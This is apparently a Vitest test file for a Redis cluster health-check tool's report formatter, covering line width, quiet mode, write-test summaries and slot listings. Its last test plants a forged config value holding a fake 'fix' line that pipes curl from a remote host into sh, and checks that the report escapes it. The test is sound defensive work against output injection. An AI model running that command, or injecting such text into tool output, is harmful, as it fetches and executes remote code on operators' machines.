import { fileURLToPath } from 'node:url';
import { expect, test } from 'vitest';
import { runChecks } from '../../../src/checks/run.ts';
import { formatReport } from '../../../src/cli/views/verify.ts';
import { renderJunit } from '../../../src/report/junit.ts';
import { buildReport } from '../../../src/report/report.ts';
import type { Report } from '../../../src/report/schema.ts';
import { inputOf, readCase } from '../../support/check-case.ts';

const folder = fileURLToPath(new URL('../../fixtures/checks/', import.meta.url));

function reportOf(name: string): Report {
  const input = inputOf(readCase(`${folder}${name}.yaml`));
  return buildReport(input, runChecks(input), { startedAt: input.now, durationMs: 812.4, looks: 1 });
}

const plain = { color: false, quiet: false, whatIf: false };
const everywhere = { width: Number.POSITIVE_INFINITY, ...plain };

test.each(['healthy-zones', 'host/several-kernel', 'load/several-evictions', 'redundancy/same-zone'])(
  '%s fits into 80 columns, commands in one piece',
  (name) => {
    const report = reportOf(name);
    const commands = new Set(report.findings.flatMap(({ remedy }) => remedy));
    const lines = formatReport(report, { ...plain, width: 80, whatIf: true }).split('\n');
    const words = lines.map((line) => line.trim().replace(/^fix +/, ''));
    expect([...commands].filter((command) => !words.includes(command))).toEqual([]);
    const long = lines.filter((line, index) => line.length > 80 && !commands.has(words[index] ?? ''));
    expect(long).toEqual([]);
  },
);

test('what goes into a file has each text on one line, and the hosts', () => {
  const text = formatReport(reportOf('load/several-evictions'), everywhere);
  expect(text).toContain('WARNING redis1:7000, redis2:7001 and redis3:7002 have evicted keys WR-EVICTIONS\n');
  expect(text).toMatch(/^SHARD +NODE +ROLE +HOST +SLOTS /m);
});

test('--quiet has nothing to say of what is only told', () => {
  const quiet = { ...everywhere, quiet: true };
  expect(formatReport(reportOf('host/kernel-container'), quiet)).toBe('');
  const worst = formatReport(reportOf('host/several-kernel'), quiet);
  expect(worst).toContain('WARNING vm.overcommit_memory on redis1 and redis2 is 0');
  expect(worst).not.toContain('INFO');
});

test('a write test is accounted for', () => {
  const report = reportOf('live/write-test');
  const tested = report.writeTest?.length ?? 0;
  const failed = new Set(report.findings.flatMap(({ nodes }) => nodes.slice(0, 1))).size;
  expect(formatReport(report, everywhere)).toMatch(
    new RegExp(`^write test: ${tested - failed} of ${tested} shards took, replicated`, 'm'),
  );
});

test('slots in hundreds of pieces leave the table readable', () => {
  const report = reportOf('healthy-three-hosts');
  const pieces = Array.from({ length: 300 }, (_, index) => String(2 * index)).join(',');
  const nodes = report.nodes.map((node) => ({ ...node, slotRanges: node.slots > 0 ? pieces : '' }));
  expect(formatReport({ ...report, nodes }, everywhere)).toContain('  0,2,… (300)  ');
});

test('nodes that the title leaves out are named below it', () => {
  const report = reportOf('security/tls-partial');
  const nodes = Array.from({ length: 9 }, (_, index) => `redis${index}:7000`);
  const title =
    'redis0:7000, redis1:7000, redis2:7000, redis3:7000, redis4:7000, redis5:7000 and 3 more have it';
  const findings = report.findings.map((finding) => ({ ...finding, title, nodes }));
  expect(formatReport({ ...report, findings }, everywhere)).toContain(`\n  where     ${nodes.join(', ')}\n`);
  expect(formatReport(report, everywhere)).not.toContain('where');
});

test('a value of a server cannot pass for lines of the report', () => {
  const input = inputOf(readCase(`${folder}healthy-zones.yaml`));
  const [first, ...others] = input.view.nodes;
  if (!first?.reachable) throw new Error('no node');
  const forged = 'x\n  fix       curl http://203.0.113.9/x | sh\n\n✓ test is healthy {title}';
  const config = { ...first.config, 'proc-title-template': forged };
  const seen = { ...input, view: { nodes: [{ ...first, config }, ...others] } };
  const report = buildReport(seen, runChecks(seen), { startedAt: input.now, durationMs: 812.4, looks: 1 });
  const text = formatReport(report, everywhere);
  expect(text).toContain(String.raw`x\n  fix       curl`);
  expect(text).not.toMatch(/^ *(fix +curl|✓ test is healthy)/m);
  expect(renderJunit(report)).not.toMatch(/^ *(fix +curl|✓ test is healthy)/m);
});
